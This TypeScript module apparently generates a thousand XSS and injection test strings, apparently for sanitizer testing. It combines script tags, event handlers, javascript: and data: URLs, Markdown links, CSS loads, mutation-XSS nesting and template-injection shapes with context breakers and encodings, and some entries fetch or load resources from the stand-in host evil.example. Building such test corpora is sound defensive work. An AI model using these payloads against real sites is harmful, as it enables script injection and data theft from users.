import { hostileTexts } from './hostile-texts.ts';

/** What a text would like to run; each is seen where it does: a dialog, a global, a request. */
const actions = ['alert(1)', 'window.ran=1', 'fetch("//evil.example")', 'top.ran=1'] as const;

/** Ways to have it run, or to have something fetched, by a browser, a Markdown reader, a stylesheet or a template. */
const shapes: readonly ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  () => '<script src=//evil.example/x.js></script>',
  (code) => `<img src=x onerror='${code}'>`,
  (code) => `<img src=//evil.example/x.png onload='${code}'>`,
  (code) => `<svg onload='${code}'>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin='${code}' attributeName=x dur=1s>`,
  (code) => `<iframe srcdoc="<script>${code.replaceAll('"', '&quot;')}</script>">`,
  (code) => `<iframe src='javascript:${code}'>`,
  (code) => `<input autofocus onfocus='${code}'>`,
  (code) => `<details open ontoggle='${code}'>`,
  (code) => `<video><source onerror='${code}'></video>`,
  (code) => `<x tabindex=1 onfocus='${code}' id=x>`,
  (code) => `<p onmouseover='${code}' style=position:fixed;inset:0>`,
  (code) => `<a href='javascript:${code}' autofocus>x</a>`,
  (code) => `<form action='javascript:${code}'><button autofocus>`,
  (code) => `<object data='data:text/html,<script>${code}</script>'>`,
  () => '<link rel=stylesheet href=//evil.example/x.css>',
  () => '<meta http-equiv=refresh content="0;url=//evil.example/">',
  () => '<base href=//evil.example/>',
  () => '<style>@import "//evil.example/x.css"</style>',
  () => '<style>*{background:url(//evil.example/x)}</style>',
  (code) => `<noscript><p title="</noscript><img src=x onerror='${code}'>">`,
  (code) => `<svg></p><style><a id="</style><img src=1 onerror='${code}'>">`,
  (code) => `<math><mtext><table><mglyph><style><img src=x onerror='${code}'>`,
  (code) => `<math><mi xlink:href='javascript:${code}'>x</mi></math>`,
  (code) => `<template><script>${code}</script></template>`,
  (code) => `[x](javascript:${code})`,
  (code) => `[x](<javascript:${code}> "x")`,
  (code) => `[x](data:text/html,<script>${code}</script>)`,
  (code) => `[x]: javascript:${code}\n[x]`,
  (code) => `<javascript:${code}>`,
  () => '![x](https://evil.example/x.png)',
  () => '[![x](//evil.example/x.png)](vbscript:x)',
  (code) => `<https://evil.example/" onmouseover='${code}'>`,
  (code) => `x" onmouseover='${code}' x="`,
  (code) => `x' autofocus onfocus="${code.replaceAll('"', '`')}" x='`,
  (code) => `javascript:${code}//`,
  () => 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  () => '}*{background:url(//evil.example/x)}',
  (code) => `x:expression(${code});background:url(//evil.example/x)`,
  (code) => `{{constructor.constructor('${code}')()}}`,
  (code) => `\${${code}} #{${code}} <%= ${code} %>`,
  (code) => `","@type":"Thing","x":"<!--<script>${code}`,
];

/** What would end the place that a text stands in. */
const ends = [
  ...['', '">', "'>", '</script>', '</style>', '</title>', '-->', '<!--', ']]>', '</li></ul></main>', '</noscript>'],
  ...['\u2028', '\u202e', '\u0000', '\\', '`', '&quot;>', '*', '\n\n', '\ud800'],
];

/** Other ways to write the same, for readers that decode too much or look too little. */
const encodings: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<\w+/g, (tag) => tag.toUpperCase()),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#60;').replaceAll(':', '&colon;'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\x3e'),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replace('script', 'scr\u0000ipt').replace('java', 'java\t'),
  (text) => text.replace(/ (?=on|src|href)/g, '/').replace('javascript', 'JaVaScRiPt'),
  (text) => text.replaceAll('on', 'o\u200bn').replace('<', '<\udfff'),
];

/** A thousand hostile texts, no two the same, short enough for almost every field. */
export const hostileStrings: readonly string[] = thousand();

function thousand(): readonly string[] {
  const texts = new Set(hostileTexts.map((text) => text.trim()));
  // Steps without a common divisor, so that all shapes meet all ends and encodings sooner or later.
  for (let number = 0; texts.size < 1000; number++) {
    const shape = shapes[number % shapes.length];
    const action = actions[Math.floor(number / shapes.length) % actions.length];
    const encode = encodings[(number * 3 + Math.floor(number / 50)) % encodings.length];
    if (shape && action && encode) texts.add(`${ends[(number * 7) % ends.length]}${encode(shape(action))}`.trim());
  }
  return [...texts];
}
